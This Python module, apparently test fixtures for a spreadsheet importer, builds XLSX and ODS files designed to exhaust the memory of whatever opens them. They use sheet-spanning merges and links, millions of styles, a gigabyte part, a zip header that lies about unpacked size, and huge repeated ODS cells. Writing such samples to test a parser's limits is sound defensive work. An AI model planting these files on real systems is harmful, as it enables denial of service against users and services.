"""Workbooks of a few kilobytes made to fill the memory of whoever opens them."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Final

from openpyxl import Workbook

SHEET: Final = "xl/worksheets/sheet1.xml"
_CELL: Final = '<c r="{}" t="inlineStr"><is><t>a</t></is></c>'
_FAR: Final = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c></row></sheetData>'


def ordinary() -> dict[str, bytes]:
    """The parts of a workbook of one cell."""
    book = Workbook()
    book.worksheets[0]["A1"] = "信息资源名称"
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(old: str, new: str, part: str = SHEET) -> dict[str, bytes]:
    """The same with one text of a part replaced."""
    parts = ordinary()
    assert old.encode() in parts[part]
    return parts | {part: parts[part].replace(old.encode(), new.encode(), 1)}


def far() -> dict[str, bytes]:
    """One cell at the far end of the sheet."""
    return changed("</sheetData>", _FAR)


def far_otherwise() -> dict[str, bytes]:
    """The same in single quotes and small letters, a prefix before its tag, a sign of a tag's end within."""
    odd = _FAR.replace('r="XFD1048576"', "s='>' r='xfd1048576'").replace("<c ", '<x:c xmlns:x="http://x" ')
    return changed("</sheetData>", odd.replace("</c>", "</x:c>"))


def far_unsaid() -> dict[str, bytes]:
    """Cells that do not say where they stand, each one further than the one before."""
    row = '<row r="1048576">' + "<c/>" * 16_383 + '<c t="inlineStr"><is><t>z</t></is></c></row></sheetData>'
    return changed("</sheetData>", row)


def merged() -> dict[str, bytes]:
    """A range merged over the whole sheet."""
    return changed("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def linked() -> dict[str, bytes]:
    """A link over the whole sheet: a reader makes every cell of it."""
    whole = '<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'
    return changed("</sheetData>", f"</sheetData>{whole}")


def styled() -> dict[str, bytes]:
    """Millions of styles, each an object of its own."""
    return changed("</cellXfs>", "<xf/>" * 5_000_000 + "</cellXfs>", "xl/styles.xml")


def swollen() -> dict[str, bytes]:
    """Blanks that unpack to a gigabyte."""
    return ordinary() | {"xl/sharedStrings.xml": b" " * (1 << 30)}


XLSX: Final[Mapping[str, Callable[[], dict[str, bytes]]]] = {
    one.__name__: one for one in (far, far_otherwise, far_unsaid, merged, linked, styled)
}


def write(path: Path, parts: Mapping[str, bytes]) -> Path:
    """Pack parts as a workbook."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def write_lying(path: Path) -> Path:
    """A workbook one part of which unpacks to far more than the archive says."""
    parts = ordinary() | {"xl/media/image1.png": b"\0" * (64 << 20)}
    write(path, parts)
    content = bytearray(path.read_bytes())
    for place in range(len(content) - 4):
        if content[place : place + 4] == struct.pack("<L", 64 << 20):
            content[place : place + 4] = struct.pack("<L", 100)
    path.write_bytes(content)
    return path


def write_ods(path: Path, rows: int = 1_048_576, columns: int = 16_384) -> Path:
    """An OpenDocument sheet with one cell repeated over so many rows and columns: all there may be."""
    names = ("office", "table", "text")
    spaces = " ".join(f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for n in names)
    said = f'office:value-type="float" office:value="1" table:number-columns-repeated="{columns}"'
    cell = f"<table:table-cell {said}/>"
    row = f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'
    body = f'<office:spreadsheet><table:table table:name="a">{row}</table:table></office:spreadsheet>'
    content = f"<office:document-content {spaces}><office:body>{body}</office:body></office:document-content>"
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    manifest = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return write(
        path,
        {"mimetype": kind, "content.xml": content.encode(), "META-INF/manifest.xml": manifest},
    )
